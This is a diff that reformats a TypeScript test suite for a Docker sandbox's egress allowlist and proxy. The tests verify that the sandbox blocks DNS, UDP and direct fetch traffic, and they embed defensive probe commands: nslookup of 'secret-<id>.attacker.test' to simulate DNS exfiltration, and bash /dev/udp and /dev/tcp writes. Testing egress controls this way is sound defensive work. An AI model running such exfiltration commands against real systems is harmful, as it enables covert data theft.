@@ -27,7 +27,18 @@ import {
 const nonce = () => `n${randomBytes(5).toString("hex")}`;
 const prefix = `egress-enf-${process.pid}`;
 
-const ALLOW = ["allowed.test", "*.allowed.test", "*.rebind.test", "loopback.test", "metadata.test", "private.test", "enginehost.test", "mapped.test", "nat64.test", `${ALLOWED_IP}`];
+const ALLOW = [
+  "allowed.test",
+  "*.allowed.test",
+  "*.rebind.test",
+  "loopback.test",
+  "metadata.test",
+  "private.test",
+  "enginehost.test",
+  "mapped.test",
+  "nat64.test",
+  `${ALLOWED_IP}`,
+];
 
 function egressBackend(name: string, overrides: Partial<DockerBackendOptions> = {}): DockerBackend {
   return createDockerBackend({
@@ -47,9 +58,17 @@ async function removeEgressObjects(name: string): Promise<void> {
   await Promise.all(
     containers
       .filter((c) => c.Names.some((n) => n.startsWith(`/${name}`)))
-      .map((c) => egressDocker.getContainer(c.Id).remove({ force: true, v: true }).catch(() => undefined)),
+      .map((c) =>
+        egressDocker
+          .getContainer(c.Id)
+          .remove({ force: true, v: true })
+          .catch(() => undefined),
+      ),
   );
-  await egressDocker.getNetwork(egressNetworkName(name)).remove().catch(() => undefined);
+  await egressDocker
+    .getNetwork(egressNetworkName(name))
+    .remove()
+    .catch(() => undefined);
 }
 
 /** A command's result as text. */
@@ -131,7 +150,10 @@ describe("network: allowlist enforcement (egress test engine, iptables on)", () 
 
   it("sends no DNS query and no UDP packet anywhere: nslookup of an arbitrary name and a UDP datagram to the internet are never recorded", async () => {
     const id = nonce();
-    const lookup = await run(backend, `${BUSYBOX} timeout 8 ${BUSYBOX} nslookup secret-${id}.attacker.test; ${BUSYBOX} timeout 8 ${BUSYBOX} nslookup secret2-${id}.attacker.test ${DNS_IP}`);
+    const lookup = await run(
+      backend,
+      `${BUSYBOX} timeout 8 ${BUSYBOX} nslookup secret-${id}.attacker.test; ${BUSYBOX} timeout 8 ${BUSYBOX} nslookup secret2-${id}.attacker.test ${DNS_IP}`,
+    );
     expect(lookup.stdout + lookup.stderr).not.toContain(ALLOWED_IP);
     const udp = await run(backend, `timeout 5 bash -c 'echo udp-${id} >/dev/udp/${ALLOWED_IP}/9999; echo dns-${id} >/dev/udp/${DNS_IP}/53'; echo sent`);
     expect(udp.stdout).toContain("sent");
@@ -201,7 +223,9 @@ describe("network: allowlist enforcement (egress test engine, iptables on)", () 
       },
     });
     expect(result.exitCode).toBe(0);
-    const ours = Object.values(networkInterfaces()).flatMap((entries) => entries ?? []).filter((entry) => !entry.internal && entry.family === "IPv4");
+    const ours = Object.values(networkInterfaces())
+      .flatMap((entries) => entries ?? [])
+      .filter((entry) => !entry.internal && entry.family === "IPv4");
     expect(ours.length).toBeGreaterThan(0);
     const hostAddresses = (JSON.parse(policy) as { host_addresses: string[] }).host_addresses;
     for (const entry of ours) expect(hostAddresses).toContain(entry.address);
@@ -215,7 +239,9 @@ describe("network: allowlist enforcement (egress test engine, iptables on)", () 
     const listener = spawn("ip", ["netns", "exec", ENGINE_NAMESPACE, process.execPath, "-e", script], { stdio: "ignore" });
     try {
       // Positive control: the listener answers inside the engine's namespace.
-      await expect.poll(() => inNamespace(ENGINE_NAMESPACE, ["bash", "-c", "exec 3<>/dev/tcp/198.18.0.1/7777 && cat <&3"]).stdout, { timeout: 10_000 }).toContain(`engine-host-${id}`);
+      await expect
+        .poll(() => inNamespace(ENGINE_NAMESPACE, ["bash", "-c", "exec 3<>/dev/tcp/198.18.0.1/7777 && cat <&3"]).stdout, { timeout: 10_000 })
+        .toContain(`engine-host-${id}`);
       const network = await egressDocker.getNetwork(egressNetworkName(name)).inspect();
       const bridgeGateway = network.IPAM?.Config?.[0]?.Gateway;
       for (const address of ["198.18.0.1", "198.18.64.1", ...(bridgeGateway ? [bridgeGateway] : [])]) {
@@ -240,7 +266,9 @@ describe("network: allowlist enforcement (egress test engine, iptables on)", () 
     expect(sent.stdout).toMatch(/^HTTP\/1\.1 40[03] /);
     const records: EgressRecord[] = [];
     expect(await readEgressLog(egressDocker, name, { onRecord: (r) => records.push(r) })).toBe(true);
-    const allowed = records.find((r) => r.decision === "allowed" && r.host === "allowed.test" && r.method === "GET" && r.sandbox === name && (r.bytes_down ?? 0) > 0);
+    const allowed = records.find(
+      (r) => r.decision === "allowed" && r.host === "allowed.test" && r.method === "GET" && r.sandbox === name && (r.bytes_down ?? 0) > 0,
+    );
     expect(allowed).toMatchObject({ port: 80, address: ALLOWED_IP, rule: "allow allowed.test" });
     expect(records.some((r) => r.decision === "refused" && r.host === "denied.test" && r.rule === "not allowed")).toBe(true);
     expect(records.some((r) => r.host === `forged-${id}`)).toBe(false);
@@ -296,11 +324,17 @@ describe("network: allowlist lifecycle", () => {
     try {
       await run(backend, "true");
       const running = await backend.healthChecks!();
-      expect(running.find((c) => c.id === "docker.egress.proxy")).toMatchObject({ level: "ok", message: expect.stringContaining(`egress proxy ${name}-egress-proxy running`) });
+      expect(running.find((c) => c.id === "docker.egress.proxy")).toMatchObject({
+        level: "ok",
+        message: expect.stringContaining(`egress proxy ${name}-egress-proxy running`),
+      });
       expect(running.find((c) => c.id === "docker.egress")?.message).toContain("the sandbox reaches only allowed.test");
       await egressDocker.getContainer(`${name}-egress-proxy`).stop({ t: 1 });
       const stopped = await backend.healthChecks!();
-      expect(stopped.find((c) => c.id === "docker.egress.proxy")).toMatchObject({ level: "warn", message: expect.stringContaining("the sandbox has no network until the next command restarts it") });
+      expect(stopped.find((c) => c.id === "docker.egress.proxy")).toMatchObject({
+        level: "warn",
+        message: expect.stringContaining("the sandbox has no network until the next command restarts it"),
+      });
     } finally {
       await backend.dispose();
     }
@@ -343,10 +377,14 @@ describe("network: allowlist with Node", () => {
 
   it("Node 20's fetch, which ignores the proxy variables, gets nowhere; Node's http through the proxy arrives", async () => {
     const id = nonce();
-    const fetchResult = await run(backend, `node -e "fetch('http://allowed.test/${id}').then(r => r.text()).then(console.log, e => { console.log('failed', e.cause?.code ?? e.message); process.exit(3) })"`);
+    const fetchResult = await run(
+      backend,
+      `node -e "fetch('http://allowed.test/${id}').then(r => r.text()).then(console.log, e => { console.log('failed', e.cause?.code ?? e.message); process.exit(3) })"`,
+    );
     expect(fetchResult.exitCode).toBe(3);
     expect(worldSaw(id)).toBe(false);
-    const viaProxy = await run(backend, 
+    const viaProxy = await run(
+      backend,
       `node -e "require('http').get({ host: 'monoclaw-egress-proxy', port: 3128, path: 'http://allowed.test/${id}', headers: { host: 'allowed.test' } }, r => r.pipe(process.stdout))"`,
     );
     expect(JSON.parse(viaProxy.stdout)).toMatchObject({ served: "internet", url: `/${id}` });
